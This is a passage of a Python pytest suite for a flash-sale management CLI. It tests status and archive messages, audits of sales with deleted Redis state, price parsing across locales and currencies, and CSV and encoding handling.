    """An id copied a character short, or the sale's name typed for its id, was "unknown
    sale" and nothing more, though Postgres could tell which sale was meant."""
    name = f"Drop {uuid.uuid4().hex[:8]}"
    sale_id = create(cli, tmp_path, {**SALE, "name": name})
    for typed in (sale_id[:-1], name.upper()):
        result = cli("sale", "status", typed)
        assert (result.code, result.err) == (
            1, f"flashsale: error: unknown sale {typed!r} (did you mean {sale_id}, "
               f'"{name}"?)\n'), result.err  # fmt: skip
    assert cli("sale", "status", "sale-").err == "flashsale: error: unknown sale 'sale-'\n"


def test_an_ended_sales_status_says_when_it_is_archived(
    cli: Cli, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """`sale status` of an ended sale said nothing of its archiving: that the reconciler
    deletes its buyers' Redis state a day after its end, and the command that does it now."""
    sale_id = create(cli, tmp_path)
    assert cli("sale", "preload", sale_id).code == 0
    assert cli("sale", "end", sale_id).code == 0
    ended = json.loads(cli("sale", "show", sale_id).out)["ended_at"]
    due = datetime.fromisoformat(ended) + timedelta(days=1)
    lines = cli("sale", "status", sale_id).out.splitlines()
    assert lines[2] == (
        f"  the reconciler archives it at {due:%Y-%m-%dT%H:%M:%SZ}, 24 h after its end "
        f"(`flashsale sale archive {sale_id}` does it now)"
    ), lines
    monkeypatch.setenv("FLASHSALE_ARCHIVE_AFTER", "never")
    lines = cli("sale", "status", sale_id).out.splitlines()
    assert lines[2] == f"  not archived yet (`flashsale sale archive {sale_id}` does it)", lines


def test_a_sale_kept_with_its_redis_state_deleted_says_so(
    cli: Cli, db: Db, stack: Settings, tmp_path: Path
) -> None:
    """A benchmark's sale that has orders is kept, its Redis state deleted on purpose
    (``redis_cleared_at``), as `bench pipeline` leaves each of its sales. `sale status` said
    Redis had lost its SKUs and that `reconcile --once` rebuilds them, and that the reconciler
    archives it a day after its end: neither service visits such a sale, and an archive's
    audit, lacking that state, could not pass."""
    sale_id = create(cli, tmp_path)
    assert cli("sale", "preload", sale_id).code == 0
    db.execute("INSERT INTO orders (id, sale_id, sku, buyer_id, quantity, amount, currency, "
               "admission_id, payment_token, state) VALUES ($1, $2, 'SNK-42', 'b', 1, 100, "
               "'EUR', 'a', 'tok', 'EXPIRED')", f"r-{sale_id}", sale_id)  # fmt: skip
    asyncio.run(discard_sales(stack, [sale_id], ["SNK-42", "SNK-43"]))
    cleared = db.val("SELECT redis_cleared_at FROM sales WHERE id = $1", sale_id)
    lines = cli("sale", "status", sale_id).out.splitlines()
    assert lines[2] == (
        f"  its Redis state deleted {cleared:%Y-%m-%dT%H:%M:%SZ}, on purpose (a benchmark's "
        "sale): no service visits it, and it cannot be archived (its audit needs that state)"
    ), lines
    assert not [line for line in lines if "lost" in line or "preloaded yet" in line], lines
    shown = json.loads(cli("sale", "status", sale_id, "--json").out)
    assert shown["sale"]["redis_cleared_at"] is not None and shown["archive_due_at"] is None
    assert [sku["lost"] for sku in shown["skus"]] == [False, False], shown["skus"]
    archived = cli("sale", "archive", sale_id)  # was refused as "its audit fails (2)"
    assert archived.code == 1 and "its Redis state was deleted on purpose at " in archived.err


def test_the_audit_of_a_sale_kept_with_its_redis_state_deleted_says_why_it_fails(
    cli: Cli, db: Db, stack: Settings, tmp_path: Path
) -> None:
    """Such a sale's audit failed invariant 2 with "skus_missing_in_redis" and invariant 7
    with every order "without claim", as if Redis had lost them: it was deleted on purpose.
    The audit still fails (what only Redis held cannot be checked), and says why."""
    sale_id = create(cli, tmp_path)
    assert cli("sale", "preload", sale_id).code == 0
    db.execute("INSERT INTO orders (id, sale_id, sku, buyer_id, quantity, amount, currency, "
               "admission_id, idempotency_key, payment_token, state) VALUES ($1, $2, 'SNK-42', "
               "'b', 1, 100, 'EUR', '1', 'k', 'tok', 'EXPIRED')",
               f"r-{sale_id}", sale_id)  # fmt: skip
    db.execute("INSERT INTO order_events (order_id, seq, type, from_state, to_state, cause) "
               "VALUES ($1, 1, 'expired', 'PENDING', 'EXPIRED', 'hold_expired')",
               f"r-{sale_id}")  # fmt: skip
    asyncio.run(discard_sales(stack, [sale_id], ["SNK-42", "SNK-43"]))
    cleared = db.val("SELECT redis_cleared_at FROM sales WHERE id = $1", sale_id)
    audited = cli("audit", sale_id, "--json")
    assert audited.code == 1, audited.err
    report = json.loads(audited.out)
    assert report["facts"]["redis_cleared_at"] == f"{cleared:%Y-%m-%dT%H:%M:%SZ}"
    assert report["facts"]["audited"].startswith("without its Redis state, deleted on purpose")
    # 4 asks a payment provider; 3 cannot conclude while the stack's pipeline holds events
    # other tests left unconsumed (its consumer lag), which says nothing of this sale
    failed = {
        i["name"][:2]: i["details"]
        for i in report["invariants"]
        if not i["passed"] and i["name"][:2] != "4."
        and not (i["name"][:2] == "3." and set(i["details"]) == {"cannot_conclude"})
    }  # fmt: skip
    why = f"its Redis state was deleted on purpose at {cleared:%Y-%m-%dT%H:%M:%SZ}"
    assert failed == {"2.": {"not_checked": why}, "7.": {"not_checked": why}}, failed
    text = cli("audit", sale_id).out
    assert f"not_checked: {why}" in text and "missing_in_redis" not in text, text


def test_a_long_unknown_sale_id_is_named_not_echoed(cli: Cli) -> None:
    result = cli("sale", "status", "sale-" + "a" * 5000)
    assert result.code == 1 and "unknown sale 'sale-aaa" in result.err, result.err
    assert len(result.err) <= 320 and "5005 characters" in result.err, result.err


@pytest.mark.parametrize(("units", "code"), [("0", 2), ("-3", 2), ("2.5", 2), ("lots", 2)])
def test_bad_add_stock(
    cli: Cli, db: Db, rdb: redis.Redis, tmp_path: Path, units: str, code: int
) -> None:
    sale_id = create(cli, tmp_path)
    assert cli("sale", "preload", sale_id).code == 0
    result = cli("sale", "add-stock", sale_id, "SNK-42", units)
    assert result.code == code
    assert result.err.startswith("flashsale: error: N:"), result.err  # the argument typed
    assert (
        db.val("SELECT stock_total FROM sale_skus WHERE sale_id=$1 AND sku='SNK-42'", sale_id)
        == 100
    )
    assert rdb.hget(SkuKeys(sale_id, "SNK-42").stock, "total") == "100"
    unknown = cli("sale", "add-stock", sale_id, "NOPE", "5")
    assert unknown.code == 1
    assert "unknown SKU" in unknown.err and "its SKUs are SNK-42, SNK-43" in unknown.err
    cased = cli("sale", "update-sku", sale_id, "snk-42", "--title", "x")
    assert cased.code == 1 and "(did you mean SNK-42?)" in cased.err, cased.err


def _commands(parser: argparse.ArgumentParser) -> dict[str, argparse.ArgumentParser]:
    """The subcommands of ``parser``, by name."""
    [sub] = [a for a in parser._actions if isinstance(a, argparse._SubParsersAction)]
    return dict(sub.choices)


def test_the_readme_lists_every_sale_command_and_admin_route(stack: Settings) -> None:
    """A merchandiser reads "Running a sale" and "Admin API" for what they can do: the tables
    lacked `sale remove-stock`, `sale remove-sku`, the SKU's DELETE, the audit and the
    archive routes, which the engine has."""
    readme = (Path(__file__).resolve().parent.parent / "README.md").read_text()
    sale_table = readme.split("## Running a sale", 1)[1].split("### Sale file format", 1)[0]
    commands = _commands(_commands(build_parser())["sale"])
    named = set()  # the words of the table's first cells: `sale pause / resume / end ID`
    for line in sale_table.splitlines():
        if line.startswith("| `sale "):
            first = line.split("|")[1]
            named |= {word for part in first.split("`")[1::2] for word in part.split()}
    missing = [name for name in commands if name not in named]
    assert not missing, missing
    admin_table = readme.split("## Admin API", 1)[1].split("## Running the engine", 1)[0]
    routes = {(r.method, r.resource.canonical) for r in create_app(stack).router.routes()
              if r.resource is not None and r.resource.canonical.startswith("/admin/v1/")
              and r.method != "HEAD"}  # fmt: skip

    def listed(method: str, path: str) -> bool:
        head, _, action = path.rpartition("/")
        if action in ("pause", "resume", "end"):  # one row for the three
            return f"`POST {head}/pause`, `/resume`, `/end`" in admin_table
        return f"`{method} {path}" in admin_table

    unlisted = sorted(route for route in routes if not listed(*route))
    assert not unlisted, unlisted


def test_a_long_preload_says_how_far_it_has_got(
    stack: Settings, cli: Cli, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A preload of 200,000 SKUs ran 10 s without a word until its summary: it says on stderr,
    every 2 s (here: every part), how many SKUs are in Redis so far. An import says what it
    is doing."""
    made = cli("sale", "create", "--name", "Big", "--sku", "K", "--stock", "5", "--price", "100",
               "--currency", "EUR", "--starts-in", "1h")  # fmt: skip
    sale_id = made.out.strip()
    rows = "".join(f"K{i},Item {i},5,100,EUR\n" for i in range(11_999))
    path = write(tmp_path, "sku,title,stock,price,currency\n" + rows, "many.csv")
    monkeypatch.setattr(output, "PROGRESS_EVERY_S", 0.001)  # an import of 200,000: 5 s, silent
    imported = cli("sale", "import", path, "--sale", sale_id)
    assert imported.code == 0 and imported.out.startswith("imported 11,999 SKUs"), imported
    said = imported.err.splitlines()
    assert said and all(re.fullmatch(rf"importing into {sale_id}: [\w ,./-]+ \(\d+ s\)", line)
                        for line in said), imported.err  # fmt: skip
    assert any("checking every row" in line for line in said), imported.err
    monkeypatch.setattr(output, "PROGRESS_EVERY_S", 0.0)
    preloaded = cli("sale", "preload", sale_id)
    assert preloaded.code == 0, preloaded.err
    assert preloaded.err.splitlines() == [
        f"preloading {sale_id}: {done:,} of 12,000 SKUs" for done in (5_000, 10_000, 12_000)
    ], preloaded.err
    assert preloaded.out.startswith(f"preloaded the 12,000 SKUs of {sale_id}"), preloaded.out


def test_the_status_of_an_ended_sale_sends_nobody_to_a_command_it_refuses(
    cli: Cli, tmp_path: Path
) -> None:
    """Ended before its preload, its status said `not preloaded (flashsale sale preload …)`,
    `no SKUs yet: add some with flashsale sale import …` and revenue `none yet`: the two
    commands refuse an ended sale, and nothing more can be taken. Live, its line said
    `0 registered for the draw` once the draw was long past."""
    opened = cli("sale", "create", "--name", "Open", "--sku", "A", "--stock", "1", "--price",
                 "100", "--currency", "EUR").out.strip()  # fmt: skip
    assert cli("sale", "preload", opened).code == 0
    live = cli("sale", "status", opened)
    assert "  queue: nobody has joined yet\n" in live.out, live.out
    assert "revenue of confirmed orders: none yet\n" in live.out, live.out
    sale_id = create(cli, tmp_path)
    empty = cli("sale", "create", "--name", "Never stocked", "--starts-in", "1h").out.strip()
    for each in (sale_id, empty, opened):
        assert cli("sale", "end", each).code == 0
    ended = cli("sale", "status", sale_id)
    assert ended.code == 0, ended.err
    assert "  never preloaded\n" in ended.out, ended.out
    assert ended.out.count("never preloaded") == 1, ended.out  # said once, not per SKU
    assert "flashsale sale preload" not in ended.out, ended.out
    assert "revenue of confirmed orders: none\n" in ended.out, ended.out
    assert cli("sale", "preload", sale_id).code != 0  # what the old hint sent the reader to
    assert "  queue: nobody joined\n" in cli("sale", "status", opened).out
    bare = cli("sale", "status", empty)
    assert "  no SKUs\n" in bare.out and "sale import" not in bare.out, bare.out


@pytest.mark.parametrize(
    ("price", "currency", "said"),
    [("149.99", "EUR", "149.99 EUR is 14999"), ("149.9", "EUR", "149.9 EUR is 14990"),
     ("1500.0", "JPY", None), ("12.345", "KWD", "12.345 KWD is 12345"),
     ("1,499", "EUR", None), ("149.999", "EUR", None),
     # as a price is shown, with its currency's sign or code: the number alone is said
     ("€149.99", "EUR", "149.99 EUR is 14999"), ("149,99 €", "EUR", "149,99 EUR is 14999"),
     ("EUR 149.99", "EUR", "149.99 EUR is 14999"), ("$12.50", "USD", "12.50 USD is 1250"),
     ("€1,499", "EUR", None), ("€", "EUR", None),
     # grouped by thousands as a spreadsheet shows a large price, in any locale's way
     ("1,299.00", "EUR", "1,299.00 EUR is 129900"), ("1.299,00", "EUR", "1.299,00 EUR is 129900"),
     ("1 299,50 €", "EUR", "1 299,50 EUR is 129950"), ("1'299.95", "CHF", "1'299.95 CHF is 129995"),
     ("1\u202f299,50", "EUR", "1\u202f299,50 EUR is 129950"),
     ("$12,345,678.90", "USD", "12,345,678.90 USD is 1234567890"),
     ("1,299.500", "KWD", "1,299.500 KWD is 1299500"), ("1,500", "JPY", "1,500 JPY is 1500"),
     ("¥1 500", "JPY", "1 500 JPY is 1500"),
     # not one amount: groups of other sizes, one mark for both, no decimals after groups
     ("1,29.00", "EUR", None), ("1,299,00", "EUR", None), ("1.299.00", "EUR", None),
     ("1 299", "EUR", None), ("12,99.99", "USD", None), ("1,5000", "JPY", None)],
)  # fmt: skip
def test_a_price_written_in_major_units_is_refused_with_its_minor_units(
    price: str, currency: str, said: str | None
) -> None:
    """A spreadsheet's price column reads 149.99: refused as "a non-negative integer amount
    in minor units, got '149.99'", which left the merchandiser to work out what that is."""
    row = {"sku": "A1", "stock": 5, "price": price, "currency": currency}
    with pytest.raises(InvalidInput) as refused:
        parse_sku(row, "skus[0]")
    message = refused.value.message
    assert message.startswith("skus[0].price: must be a non-negative integer"), message
    assert (f"(minor units: {said})" in message) if said else "minor units:" not in message
    if said and re.fullmatch(r"[0-9]+\.[0-9]+", price):  # the same of a JSON number
        with pytest.raises(InvalidInput) as as_number:
            parse_sku({**row, "price": float(price)}, "skus[0]")
        assert f"(minor units: {said})" in as_number.value.message, as_number.value.message


@given(st.one_of(st.text(), st.from_regex(r"\s*\d{1,18}[.,]\d{0,5}\s*", fullmatch=True),
                 st.from_regex(r"\d{1,3}([,.' ]\d{3}){0,3}([.,]\d{0,5})?", fullmatch=True),
                 st.floats(), st.integers(), st.booleans()),
       st.sampled_from(["EUR", "JPY", "KWD", "CLF", "XXX"]))  # fmt: skip
def test_a_price_in_major_units_is_read_exactly_or_not_at_all(value: Any, currency: str) -> None:
    """The hint never fails on any input, and what it says is the same amount: its digits,
    with the decimals the currency lacks added as zeros."""
    minor = in_minor_units(value, currency)
    if minor is not None:
        places = MINOR_UNITS[currency]
        written = bare_amount(value, currency)
        given_places = len(re.split("[.,]", written)[-1]) if places else 0  # it ends in them
        digits = re.sub("[^0-9]", "", written)
        assert int(digits) * 10 ** (places - given_places) == minor, (value, minor)
        assert not re.fullmatch(r"[0-9]+,[0-9]{3}", written) or not places, (value, minor)


@given(st.integers(0, 10**12), st.integers(1, 4), st.sampled_from(["", ",", ".", "'", " "]),
       st.sampled_from([".", ","]), st.sampled_from(["EUR", "KWD", "CLF", "JPY"]),
       st.data())  # fmt: skip
def test_a_grouped_price_in_major_units_reads_as_its_amount(
    whole: int, width: int, group: str, point: str, currency: str, data: st.DataObject
) -> None:
    """Whatever marks a locale uses for thousands and decimals, a price written with them is
    told in minor units as the same amount; with one mark for both it is not told at all."""
    places = MINOR_UNITS[currency]
    width = min(width, places)  # a yen price has no decimals to give
    part = data.draw(st.text("0123456789", min_size=width, max_size=width))
    shown = f"{whole:,}".replace(",", group) + (point + part if part else "")
    minor = in_minor_units(shown, currency)
    grouped = bool(group) and whole >= 1000
    if not places:
        assert minor == (whole if grouped and group != "." else None), shown
    elif grouped and group == point:
        assert minor is None, shown
    elif not grouped and point == "," and len(part) == 3:
        assert minor is None, shown  # "1,499": as likely the thousands of a whole price
    else:
        assert minor == whole * 10**places + int(part.ljust(places, "0")), shown


def test_a_whole_json_number_with_a_fraction_is_not_told_as_major_units_alone() -> None:
    """A program's price in cents as a float (12.99 * 100 is sent as 1299.0) was told
    "minor units: 1299.0 EUR is 129900": a price a hundred times the one meant."""
    with pytest.raises(InvalidInput) as refused:
        parse_sku({"sku": "A1", "stock": 5, "price": 1299.0, "currency": "EUR"}, "skus[0]")
    assert refused.value.message.endswith(
        "got 1299.0 (an integer: 1299, or 129900 if 1299.0 EUR was meant)"
    ), refused.value.message


@pytest.mark.parametrize("price", ["12.99", "1500.0", "1.500", "€12,5"])
def test_a_price_with_decimals_in_a_currency_without_them_is_told_so(price: str) -> None:
    """A yen price of 12.99 was refused as "must be a non-negative integer amount in minor
    units", which a merchandiser reads as "write 1299": a yen has no minor unit."""
    with pytest.raises(InvalidInput) as refused:
        parse_sku({"sku": "A1", "stock": 5, "price": price, "currency": "JPY"}, "skus[0]")
    message = refused.value.message
    assert message.endswith(f"got {price!r} (JPY has no minor unit: a price in JPY is a whole "
                            "number of JPY)"), message  # fmt: skip


@given(st.binary(), st.text())
def test_any_bytes_are_text_or_refused_and_any_text_survives_a_windows_save(
    raw: bytes, text: str
) -> None:
    """The decoding of merchandisers' files never fails otherwise than by saying why, and
    gives back whatever text was saved in UTF-8 (with or without its mark) or UTF-16."""
    try:
        assert isinstance(as_text(raw, "file"), str)
    except InvalidInput as refused:
        assert refused.field == "file" and "save it as UTF-8" in refused.message
    # A text opening with U+FEFF saved without a mark reads as having one, as every tool does.
    assert as_text(text.encode(), "file") == text.removeprefix("\ufeff")
    for saved in (text.encode("utf-8-sig"), text.encode("utf-16"),
                  codecs.BOM_UTF16_BE + text.encode("utf-16-be")):  # fmt: skip
        assert as_text(saved, "file") == text


def test_a_time_without_its_timezone_is_refused_with_the_time_given(cli: Cli, counts: Any) -> None:
    """A merchandiser typed the opening as the clock on the wall reads it: refused with
    "must include a timezone, e.g. <another day>", neither naming what was given nor showing
    it written right."""
    before = counts()
    refused = cli("sale", "create", "--name", "Local", "--starts-at", "2031-12-24T10:00")
    assert (refused.code, refused.err) == (2, (
        "flashsale: error: --starts-at: must include a timezone, got '2031-12-24T10:00': "
        "2031-12-24T10:00Z for UTC, or its offset from UTC, as 2031-12-24T10:00+01:00\n"
    )), refused  # fmt: skip
    day = cli("sale", "create", "--name", "Local", "--starts-at", "2031-12-24")
    assert day.err.endswith(": 2031-12-24T00:00Z for UTC, or its offset from UTC, as "
                            "2031-12-24T00:00+01:00\n"), day  # fmt: skip
    assert counts() == before


def test_a_sale_ended_early_says_when_it_ended(cli: Cli) -> None:
    """Ended at once, its status still read `ends <an hour later>`, the end it was made with:
    an operator checking that `sale end` took saw a sale still to end."""
    made = cli("sale", "create", "--name", "Short", "--sku", "A", "--stock", "1", "--price", "1",
               "--currency", "EUR")  # fmt: skip
    sale_id = made.out.strip()
    running = json.loads(cli("sale", "status", sale_id, "--json").out)["sale"]
    assert running["ended_at"] is None, running
    before = datetime.now(UTC)
    assert cli("sale", "end", sale_id).code == 0
    ended = json.loads(cli("sale", "status", sale_id, "--json").out)["sale"]
    when = datetime.fromisoformat(ended["ended_at"].replace("Z", "+00:00"))
    assert before - timedelta(seconds=5) < when <= datetime.now(UTC), ended
    line = cli("sale", "status", sale_id).out.splitlines()[1]
    # To the second, as a person reads it (the JSON keeps Postgres's microseconds).
    assert line.startswith(f"  starts {second(running['starts_at'])}  ended "
                           f"{second(ended['ended_at'])} (planned for "
                           f"{second(running['ends_at'])})  "), line  # fmt: skip
    assert "." in ended["ended_at"], ended  # now() in Postgres: the trim above is seen
    # Ended again (a script's retry, say): the end stays when it was. It moved to the retry,
    # and the reconciler's window over the sale and its archiving moved with it.
    assert cli("sale", "end", sale_id).code == 0
    again = json.loads(cli("sale", "status", sale_id, "--json").out)["sale"]
    assert again["ended_at"] == ended["ended_at"], (again, ended)


def test_a_sale_never_preloaded_is_deleted_and_a_preloaded_one_is_not(
    cli: Cli, db: Db, rdb: redis.Redis, tmp_path: Path
) -> None:
    """A sale made by mistake (a typo in its file, a rehearsal) stayed in `sale list` for good:
    ending it was the only way out. One never preloaded has nothing anywhere but its rows, and
    goes; one preloaded keeps its record, for its audit: it is ended instead."""
    sale_id = create(cli, tmp_path)
    deleted = cli("sale", "delete", sale_id)
    assert (deleted.code, deleted.out) == (0, f'deleted {sale_id} ("Sneaker drop", 2 SKUs)\n')
    assert not db.rows("SELECT 1 FROM sales WHERE id = $1", sale_id)
    assert not db.rows("SELECT 1 FROM sale_skus WHERE sale_id = $1", sale_id)
    gone = cli("sale", "delete", sale_id)
    assert (gone.code, gone.err) == (1, f"flashsale: error: unknown sale '{sale_id}'\n"), gone
    cut_short = create(cli, tmp_path)  # a preload that stopped after a SKU: Redis has it
    rdb.hset(
        SkuKeys(cut_short, "SNK-42").stock,
        mapping={"total": 5, "available": 5, "active": 0, "paying": 0, "sold": 0},
    )
    assert cli("sale", "delete", cut_short).code == 1
    assert db.rows("SELECT 1 FROM sales WHERE id = $1", cut_short)
    kept = create(cli, tmp_path)
    assert cli("sale", "preload", kept).code == 0
    refused = cli("sale", "delete", kept)
    assert (refused.code, refused.err) == (1, (
        f"flashsale: error: sale {kept} was preloaded: it keeps its record, for its audit; "
        f"end it instead (`flashsale sale end {kept}`)\n")), refused  # fmt: skip
    assert db.rows("SELECT 1 FROM sales WHERE id = $1", kept)


def test_a_sale_ended_before_its_start_says_it_never_opened(cli: Cli) -> None:
    """It read "starts <later>  ended <now> (planned for ...)": a start after the end."""
    made = cli("sale", "create", "--name", "Called off", "--starts-in", "1h")
    sale_id = made.out.strip()
    planned = json.loads(cli("sale", "status", sale_id, "--json").out)["sale"]
    assert cli("sale", "end", sale_id).code == 0
    ended = json.loads(cli("sale", "status", sale_id, "--json").out)["sale"]
    line = cli("sale", "status", sale_id).out.splitlines()[1]
    assert line.startswith(f"  ended {second(ended['ended_at'])}, before its start (it was to "
                           f"run {second(planned['starts_at'])} to "
                           f"{second(planned['ends_at'])})  "), line  # fmt: skip
    listed = [row for row in cli("sale", "list").out.splitlines() if row.startswith(sale_id)]
    assert listed == [f"{sale_id}  ended      {second(planned['starts_at'])}  Called off"], listed


def second(moment: str) -> str:
    """An ISO 8601 time of the engine's JSON (``…T10:24:12.972452Z``) to the second."""
    return moment[:19] + "Z"


CSV_WORDS = ["sku", "stock", "price", "currency", "A", "5", "100", "EUR", ",", ";", "\t", '"',
             "\n", "\r\n", " ", "x"]  # fmt: skip
CSV_TEXT = st.lists(st.sampled_from(CSV_WORDS))


@given(st.one_of(st.text(), CSV_TEXT.map("".join)))
def test_any_csv_is_skus_or_refused_by_a_row_or_the_header(content: str) -> None:
    """Whatever a file holds, reading it as SKUs gives them or says where it went wrong, with
    every SKU at a row of the file (a field like ``row 3.price``)."""
    lines = content.count("\n") + 1
    try:
        batch = parse_csv(content)
    except InvalidInput as refused:
        assert refused.field.split(".")[0] == "csv" or (
            refused.field.startswith("row ") and 1 <= int(refused.field[4:].split(".")[0]) <= lines
        ), refused
    else:
        assert batch.skus and all(1 < int(f[4:].split(".")[0]) <= lines for f in batch.fields)
